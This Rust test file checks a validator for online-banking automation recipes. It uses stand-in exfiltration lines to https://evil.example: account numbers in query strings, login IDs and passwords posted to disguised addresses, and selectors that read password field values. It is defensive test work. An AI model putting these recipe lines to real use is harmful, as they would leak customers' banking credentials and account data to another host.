//! Nothing of a customer's goes to another host, and the origin is the institution's own.

use crate::bank::{INSTITUTION, RECIPE};
use recipe::Recipe;

fn said_of(institution: &str, recipe: &str) -> String {
    match Recipe::read(institution, recipe) {
        Ok(recipe) => recipe.warnings().iter().map(ToString::to_string).collect(),
        Err(faults) => faults.iter().map(|fault| format!("{fault}\n")).collect(),
    }
}

/// The bank's recipe with a second host in its fence and some texts replaced.
fn said(changes: &[(&str, &str)]) -> String {
    let recipe = changes
        .iter()
        .fold(RECIPE.to_owned(), |recipe, (from, to)| {
            assert!(recipe.contains(from), "the recipe has no {from:?}");
            recipe.replacen(from, to, 1)
        });
    said_of(INSTITUTION, &recipe)
}

/// The institution, which says that the other host is its own as well.
fn with_host() -> String {
    INSTITUTION.replacen("history", "hosts = [\"https://evil.example\"]\nhistory", 1)
}

/// The same where the institution knows the second host.
fn said_with_host(changes: &[(&str, &str)]) -> String {
    let recipe = changes
        .iter()
        .fold(RECIPE.to_owned(), |recipe, (from, to)| {
            assert!(recipe.contains(from), "the recipe has no {from:?}");
            recipe.replacen(from, to, 1)
        });
    said_of(&with_host(), &recipe)
}

const FENCE: &str = "get    = [\"/login\"";
const WIDER: &str = "get    = [\"https://evil.example/x\", \"/login\"";
const POST: &str = "post   = [\"/auth\"";
const POSTS_WIDER: &str = "post   = [\"https://evil.example/x\", \"/auth\"";
const MENU: &str = "go   = { click = \"残高照会\", to = \"accounts\" }";
const FILL: &str = "form    = \"form#login\"\nfill    = { KEIYAKU = \"{login.id}\", PASSWD = \"{login.password}\" }";

#[test]
fn only_what_is_the_same_for_everybody_goes_to_another_host() {
    for way in [
        "keep = { p = \"h1\" }\ngo = { open = \"https://evil.example/x?p={p}\", to = \"accounts\" }",
        "go = { open = \"https://evil.example/x?p={account.number}\", to = \"accounts\" }",
        "keep = { p = \"h1\" }\ngo = { open = \"https://evil.example/{p}\", to = \"accounts\" }",
    ] {
        let said = said_with_host(&[(FENCE, WIDER), (MENU, way)]);
        assert!(
            said.contains("would go to another host, https://evil.example"),
            "{way}: {said}"
        );
    }
    for way in [
        "keep = { p = \"h1\" }\ngo = { post = \"https://evil.example/x\", fields = { a = \"{p}\" }, to = \"accounts\" }",
        "keep = { p = \"h1\" }\ngo = { post = \"https://evil.example/x\", json = { a = [{ b = \"{p}\" }] }, to = \"accounts\" }",
    ] {
        let said = said_with_host(&[(POST, POSTS_WIDER), (MENU, way)]);
        assert!(
            said.contains("would go to another host, https://evil.example"),
            "{way}: {said}"
        );
    }
    let dated = "go = { open = \"https://evil.example/x?d={today:YYYY}\", to = \"accounts\" }";
    let dated = said_with_host(&[(FENCE, WIDER), (MENU, dated)]);
    assert_eq!(dated, "");
}

#[test]
fn a_reviewer_sees_every_second_host() {
    let recipe = RECIPE
        .replacen(FENCE, WIDER, 1)
        .replacen(POST, POSTS_WIDER, 1);
    let recipe = Recipe::read(&with_host(), &recipe).expect("a recipe");
    assert_eq!(recipe.second_hosts(), ["https://evil.example"]);
    let plain = Recipe::read(INSTITUTION, RECIPE).expect("a recipe");
    assert!(plain.second_hosts().is_empty());
}

#[test]
fn no_line_of_a_recipe_reaches_a_host_that_the_institution_does_not_know() {
    for changes in [[(FENCE, WIDER)], [(POST, POSTS_WIDER)]] {
        let said = said(&changes);
        assert!(
            said.contains("https://evil.example is no host of the institution"),
            "{said}"
        );
        assert!(
            said.contains("hosts = [\"https://evil.example\"]"),
            "{said}"
        );
    }
    let pictures = "get    = [\"/login\"";
    let assets = "assets = [\"https://cdn.example/js/*\"]\nget    = [\"/login\"";
    assert_eq!(said(&[(pictures, assets)]), "", "a browser's pictures");
}

#[test]
fn a_picture_is_what_the_page_shows() {
    let with = |picture: &str| {
        let asks = "asks     = \"one-time-password\"";
        let own = format!("asks     = \"picture\"\npicture  = {picture}");
        said(&[(asks, &own)])
    };
    for made_up in [
        "[{ always = \"https://evil.example/x?p=\" }, { css = \"#echo\" }]",
        "{ always = \"/x\" }",
        "{ from = \"account.number\" }",
        "[\"#a\", \"#b\"]",
        "{ either = [{ css = \"img\", attr = \"src\" }, { always = \"/x\" }] }",
    ] {
        let said = with(made_up);
        let wanted = "`picture` is an address that stands on the page";
        assert!(said.contains(wanted), "{made_up}: {said}");
    }
    for shown in [
        "{ css = \"img#captcha\", attr = \"src\" }",
        "{ json = \"image.url\" }",
        "{ either = [{ css = \"img.a\", attr = \"src\" }, { css = \"img.b\", attr = \"src\" }] }",
    ] {
        assert_eq!(with(shown), "", "{shown}");
    }
}

#[test]
fn what_a_field_of_the_login_holds_is_never_kept() {
    for place in [
        "{ css = \"input[name=PASSWD]\", attr = \"value\" }",
        "{ css = \"input[name='PASSWD']\", attr = \"value\" }",
        "{ css = \"input[type = \\\"password\\\"]\", attr = \"value\" }",
        "{ css = \"input[type=password]\", attr = \"data-x\" }",
        "{ css = \"form#login input:nth-child(2)\", attr = \"value\" }",
        "{ css = \"input:nth-child(2)\", attr = \"value\" }",
        "{ css = \"input[name^=PASS]\", attr = \"VALUE\" }",
        "[\"h1\", { css = \"input[name=KEIYAKU]\", attr = \"value\" }]",
        "{ either = [{ css = \"input[name=PASSWD]\", attr = \"value\" }, \"h1\"] }",
    ] {
        let kept = format!("keep = {{ p = {place} }}\n{MENU}");
        let said = said(&[(MENU, &kept)]);
        assert!(said.contains("may hold the password"), "{place}: {said}");
    }
    let csrf =
        format!("keep = {{ t = {{ css = \"input[name=TKN]\", attr = \"value\" }} }}\n{MENU}");
    assert_eq!(said(&[(MENU, &csrf)]), "");
}

#[test]
fn the_origin_is_the_login_pages_or_one_that_the_institution_names() {
    let elsewhere = RECIPE.replace("https://ib.mihon.example", "https://evil.example");
    let said = said_of(INSTITUTION, &elsewhere);
    assert!(
        said.contains("https://evil.example isn't the host of the institution's login_page, https://ib.mihon.example"),
        "{said}"
    );
    assert!(
        said.contains("hosts = [\"https://evil.example\"]"),
        "{said}"
    );
    let spoken = INSTITUTION.replacen("history", "hosts = [\"https://evil.example\"]\nhistory", 1);
    let told = said_of(&spoken, &elsewhere);
    assert!(
        told.contains("warning: login values go to https://evil.example; the login_page that customers are shown is on https://ib.mihon.example"),
        "{told}"
    );

    for (origin, why) in [
        ("https://127.0.0.1", "is a number"),
        ("https://[::1]", "is a number"),
        ("https://ib.mihon.example:8443", "isn't the host of"),
        ("https://mihon.example", "isn't the host of"),
        ("https://ib.mihon.example.evil.example", "isn't the host of"),
    ] {
        let said = said_of(
            INSTITUTION,
            &RECIPE.replace("https://ib.mihon.example", origin),
        );
        assert!(said.contains(why), "{origin}: {said}");
    }
    let away = RECIPE.replacen(FENCE, WIDER, 1).replacen(
        "start  = \"/login\"",
        "start  = \"https://evil.example/x\"",
        1,
    );
    assert!(
        said_of(INSTITUTION, &away).contains("isn't the host of"),
        "a start elsewhere"
    );
    for host in [
        "https://10.0.0.1",
        "https://a.example/x",
        "http://a.example",
    ] {
        let spoken = INSTITUTION.replacen("history", &format!("hosts = [\"{host}\"]\nhistory"), 1);
        assert!(Recipe::read(&spoken, RECIPE).is_err(), "{host}");
    }
}

#[test]
fn an_address_can_be_understood_in_one_way_only() {
    for address in [
        "/\\\\evil.example/x",
        "/\\t/evil.example/x",
        "//evil.example/x",
        "/auth x",
        "/auth\\u0000",
        "/auth\\u3000",
        "https://ib.mihon.example@evil.example/x",
    ] {
        let send = format!(
            "send = {{ post = \"{address}\", fields = {{ K = \"{{login.id}}\", P = \"{{login.password}}\" }} }}"
        );
        let said = said(&[(POST, POSTS_WIDER), (FILL, &send)]);
        assert!(
            said.contains("can be understood as another address"),
            "{address}: {said}"
        );
    }
    for pattern in [
        "/\\\\evil.example/x",
        "/a b",
        "https://*.example/x",
        "https://10.0.0.1/x",
    ] {
        let fence = format!("get    = [\"{pattern}\", \"/login\"");
        let said = said(&[(FENCE, &fence)]);
        let told = said.contains("is not a path") || said.contains("can be understood as");
        assert!(told, "{pattern}: {said}");
    }
}

#[test]
fn an_address_outside_of_the_fence_is_told_before_any_walk() {
    let out = said(&[(MENU, "go = { open = \"/nowhere\", to = \"accounts\" }")]);
    assert!(out.contains("/nowhere isn't inside the fence"), "{out}");
    assert!(out.contains("add it to `get` of [site]"), "{out}");
    let out = said(&[(MENU, "go = { post = \"/menu\", to = \"accounts\" }")]);
    assert!(out.contains("add it to `post` of [site]"), "{out}");
}
